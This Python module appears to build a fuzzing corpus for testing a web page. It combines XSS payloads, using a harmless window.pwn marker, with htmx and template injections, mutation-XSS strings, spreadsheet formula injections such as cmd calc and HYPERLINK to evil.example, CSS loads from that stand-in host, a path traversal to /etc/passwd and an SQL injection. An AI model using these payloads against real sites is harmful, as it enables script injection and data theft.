"""Strings that somebody could write in the hope that a page runs them, shows them as something else or breaks: families times variants, our own."""

from __future__ import annotations

import os
import random
from itertools import product

FIELD = int(os.environ.get("NAOBER_CORPUS", "3"))
SEED = int(os.environ.get("NAOBER_SEED", "20261127"))

ELEMENTS = (
    *("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "select autofocus", "textarea autofocus"),
    *("marquee", "iframe", "object data=x", "embed src=x", "math", "a href=x", "div tabindex=1", "x-y style=animation-name:x", "link href=x"),
)
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter", "ONCLICK")
ENDS = (
    *('"', "'", ">", '">', "'>", "`", "-->", "--!>", "]]>", "</script>", "</textarea>", "</title>", "</style>", "</template>", "</noscript>"),
    *("</svg>", "</select>", "</hx-partial>", "</a>", "\n>", "\0>", "&quot;>", "&#34;>", '\\">'),
)
BEGINNINGS = (
    *("<img src=x onerror=window.pwn=1>", "<script>window.pwn=1</script>", " autofocus onfocus=window.pwn=1 x=", " hx-get=/tasks hx-trigger=load x="),
    " style=position:fixed;inset:0 x=",
)
ADDRESSES = (
    *("javascript:window.pwn=1", "JaVaScRiPt:window.pwn=1", " javascript:window.pwn=1", "\x01javascript:window.pwn=1", "java\tscript:window.pwn=1"),
    *("java\nscript:window.pwn=1", "&#106;avascript:window.pwn=1", "&#x6A;avascript:window.pwn=1", "javascript&colon;window.pwn=1"),
    *("java&Tab;script:window.pwn=1", "javascript://%0awindow.pwn=1", "data:text/html,<script>window.pwn=1</script>", "vbscript:window.pwn=1"),
    *("data:image/svg+xml,<svg onload=window.pwn=1>", "blob:window.pwn=1", "//evil.example/x"),
)
PLACES = (
    *("{}", '<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>x', '<button formaction="{}">x</button>'),
    *('<svg><a xlink:href="{}"><text>x', '<meta http-equiv=refresh content="0;url={}">', '<base href="{}">', '<object data="{}"></object>'),
)
HTMX = r"""
hx-on:load="window.pwn=1"
hx-on="load->window.pwn=1"
data-hx-on:load="window.pwn=1"
hx-vals='js:{a:window.pwn=1}'
hx-get="js:window.pwn=1" hx-trigger=load
hx-trigger="load[window.pwn=1]" hx-get=/x
hx-get=/tasks hx-trigger=load
hx-delete=/sessions/current hx-trigger=load
hx-get=https://evil.example hx-trigger=load
hx-swap-oob=outerHTML:body
hx-preserve id=app
hx-config='{"mode":"cors"}'
hx-boost=true hx-ignore
"""
WRAPPED = ("<p {}>x</p>", '" {} x="', "<hx-partial hx-target=body {}>x</hx-partial>", "<template hx type=partial hx-target=body {}>x</template>")
TEMPLATES = r"""
{{7*7}}
{{ 7*7 }}
{% raw %}
{% include 'lock.html' %}
{# x #}
{{ sprite }}
{{ ''.__class__ }}
{{ x|safe }}
${7*7}
#{7*7}
<%= 7*7 %>
*{7*7}
{name}
{0}
{n}
{the_resident}
%s
%(name)s
{{
}}
{%
$&
$1
$`
"""
# What one parser reads otherwise than another, or otherwise the second time.
MUTATING = r"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwn=1&gt;">
<svg></p><style><a id="</style><img src=1 onerror=window.pwn=1>">
<noscript><p title="</noscript><img src=x onerror=window.pwn=1>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwn=1>
<svg><desc><script>window.pwn=1</script>
<svg><foreignObject><img src=x onerror=window.pwn=1>
<svg><set attributeName=href to=javascript:window.pwn=1>
<svg><animate onbegin=window.pwn=1 dur=1s>
<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwn=1>#x'>
<select><noembed></select><script>window.pwn=1</script>
<xmp><p title='</xmp><img src=x onerror=window.pwn=1>'>
<iframe srcdoc='<script>parent.window.pwn=1</script>'>
<!--><img src=x onerror=window.pwn=1>-->
<![CDATA[<img src=x onerror=window.pwn=1>]]>
<?xml version='1.0'?><script>window.pwn=1</script>
<!DOCTYPE x [<!ENTITY y '<img src=x onerror=window.pwn=1>'>]>&y;
<<script>window.pwn=1//<</script>
<scr<script>ipt>window.pwn=1</script>
<img src=x onerror=window.pwn=1//
<img/src=x/onerror=window.pwn=1>
＜script＞window.pwn=1＜/script＞
%3Cscript%3Ewindow.pwn=1%3C/script%3E
\x3cscript\x3ewindow.pwn=1
\u003cscript\u003ewindow.pwn=1
&lt;script&gt;window.pwn=1&lt;/script&gt;
&amp;lt;script&amp;gt;window.pwn=1
<p><template shadowrootmode=closed><img src=x onerror=window.pwn=1></template>
<plaintext>
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */onerror=window.pwn=1 )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=window.pwn=1//>
"""
LETTERS = (
    *("\u202ewindow.pwn=1", "\u202eabc\u202c", "\u2066abc", "\u2067abc\u2069", "\u200fabc", "\u061cabc", "a\u200bb", "a\u200db", "a\ufeffb"),
    *("\ud800", "\udfff", "a\ud83db", "\ude00\ud83d", "\0", "a\0b", "\x1b[31mx", "\x7f", "\x85", "a\u2028b", "a\u2029b", "\ufffe", "\uffff"),
    *("e\u0301", "\ufdfa", "\U0001f469\u200d\U0001f469\u200d\U0001f467", "Z" + "\u0324\u0354" * 30, "\u0661\u0662", "\u05d0" * 40, "\u0130\u017f"),
    *("x" * 119, "W" * 400, "<" * 300, "&" * 300, '"' * 200, " " * 200 + "x", "x" + "\n" * 50 + "x", "a\tb", "a\r\nb", "a\rb"),
    "<img\x0csrc=x\x0conerror=window.pwn=1>",
)
FORMULAS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//evil.example")')
SHEETS = tuple(first + rest for first, rest in product(("=", "+", "-", "@", "\t=", "\r="), FORMULAS))
STYLES = r"""
<style>*{background:url(https://evil.example)}</style>
<link rel=stylesheet href="//evil.example">
" style="background:url(//evil.example)"
<p style=color:red>
}*{color:red
url(javascript:x)
@import '//evil.example'
\65 xpression(window.pwn=1)
"""
NAMES = "__proto__ constructor toString null undefined NaN true 0 -0 1e1000 [object] ../../etc/passwd ' OR 1=1 --"

PAYLOADS: list[str] = list(
    dict.fromkeys(
        [
            *(f"<{element} {event}=window.pwn=1>" for element, event in product(ELEMENTS, EVENTS)),
            *(end + beginning for end, beginning in product(ENDS, BEGINNINGS)),
            *(place.format(address) for place, address in product(PLACES, ADDRESSES)),
            *(place.format(words) for place, words in product(WRAPPED, HTMX.strip().splitlines())),
            *(line for block in (TEMPLATES, MUTATING, STYLES) for line in block.strip().splitlines()),
            *(*LETTERS, *SHEETS, *NAMES.split()),
        ]
    )
)


class Dealer:
    """Deals the strings out by chance, such that each comes by once before any comes again; `fitting` says what a field takes."""

    def __init__(self, seed: int = SEED) -> None:
        self._dice, self._left = random.Random(seed), list[str]()

    def deal(self, chars_max: int = 10_000, *, line: bool = False) -> str:
        """The next string that a field of this size takes; a line has no breaks in it."""
        for _ in range(2 * len(PAYLOADS)):
            if not self._left:
                self._left = self._dice.sample(PAYLOADS, len(PAYLOADS))
            dealt = self._left.pop()
            if len(dealt) <= chars_max and not (line and ("\n" in dealt or "\r" in dealt)):
                return dealt
        raise AssertionError(f"no string has fewer than {chars_max} characters")
